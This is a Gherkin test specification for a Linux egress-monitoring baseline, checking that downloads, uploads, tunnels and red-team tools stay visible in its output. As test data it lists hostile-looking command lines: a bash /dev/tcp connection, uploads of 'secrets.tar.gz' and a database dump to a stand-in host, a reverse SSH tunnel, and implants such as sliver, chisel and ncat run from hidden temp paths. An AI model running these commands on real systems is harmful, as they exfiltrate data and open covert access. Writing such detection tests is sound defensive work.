# Whatever a person, a developer or an intruder sends out must stay in sight. No scenario here may ever turn to hidden.
Feature: What stays visible
  People, their tools and red-team tools stay in the baseline's output, wherever they send.

  Background:
    Given the policy "linux-desktop-public-egress"

  Scenario Outline: downloaders and interpreters: <command line>
    When the program is "<program>"
    And the command line is "<command line>"
    And the destination is "<destination>"
    Then it is kept

    Examples: downloads
      | program         | command line                                        | destination   |
      | /usr/bin/curl   | curl -sSL https://get.example.org/install.sh        | 185.199.108.1 |
      | /usr/bin/curl   | curl -F file=@report.odt https://upload.example.org | 151.101.1.6   |
      | /usr/bin/wget   | wget -q -O- http://www.example.net/a                | 93.184.215.14 |
      | /usr/bin/aria2c | aria2c -x 16 https://www.example.net/disk.iso       | 151.101.65.6  |

    Examples: interpreters
      | program             | command line                                 | destination    |
      | /usr/bin/python3.12 | python3 -c import urllib.request             | 140.82.121.4   |
      | /usr/bin/python3.12 | /usr/bin/python3 /usr/bin/unattended-upgrade | 185.125.190.36 |
      | /usr/bin/node       | node server.js                               | 104.16.25.34   |
      | /usr/bin/perl       | perl -MIO::Socket -e 1                       | 140.82.121.4   |
      | /usr/bin/bash       | bash -c 'exec 3<>/dev/tcp/140.82.121.4/443'  | 140.82.121.4   |

  Scenario Outline: developer tools: <program>
    When the program is "<program>"
    Then it is kept

    Examples:
      | program                                    |
      | /usr/bin/git                               |
      | /usr/lib/git-core/git-remote-https         |
      | /usr/bin/npm                               |
      | /home/anna/.local/bin/pip                  |
      | /home/anna/.cargo/bin/cargo                |
      | /usr/local/go/bin/go                       |
      | /usr/bin/docker                            |
      | /usr/local/bin/kubectl                     |
      | /usr/share/code/code                       |
      | /snap/firefox/4848/usr/lib/firefox/firefox |

  Scenario Outline: manual uploads: <command line>
    When the program is "<program>"
    And the command line is "<command line>"
    And the port is <port>
    Then it is kept

    Examples:
      | program         | command line                               | port |
      | /usr/bin/scp    | scp secrets.tar.gz box.example.com:        | 22   |
      | /usr/bin/ssh    | ssh -NR 2222:localhost:22 box.example.com  | 22   |
      | /usr/bin/rsync  | rsync -az /home/anna box.example.com::drop | 873  |
      | /usr/bin/rclone | rclone copy /home/anna remote:backup       | 443  |
      | /usr/bin/curl   | curl -T db.dump ftp://box.example.com      | 21   |

  Scenario Outline: red-team tools: <program>
    When the program is "<program>"
    And the port is <port>
    Then it is kept

    Examples:
      | program                | port  |
      | /tmp/.X11-unix/agent   | 443   |
      | /dev/shm/sliver        | 8443  |
      | /var/tmp/.cache/chisel | 443   |
      | /home/anna/.cache/mtls | 31337 |
      | /usr/bin/ncat          | 4444  |
      | /usr/bin/socat         | 53    |

  Scenario: services of the system that the baseline does not know stay visible too
    When the program is "/usr/libexec/fwupd/fwupd"
    And the user is "root"
    Then it is kept
    And it is kept when the program is "/usr/libexec/packagekitd"
    And it is kept when the program is "/usr/bin/gnome-software"
    And it is kept when the program is "/usr/lib/systemd/systemd-timesyncd"
    And it is kept when the program is "/opt/microsoft/mdatp/sbin/wdavdaemon"
    And it is kept when the program is "/opt/microsoft/mdatp/sbin/telemetryd_v2"

  Scenario: an event that says nothing of its process is kept
    When the field "InitiatingProcessFileName" is missing
    And the field "InitiatingProcessFolderPath" is missing
    And the field "InitiatingProcessCommandLine" is missing
    Then it is kept
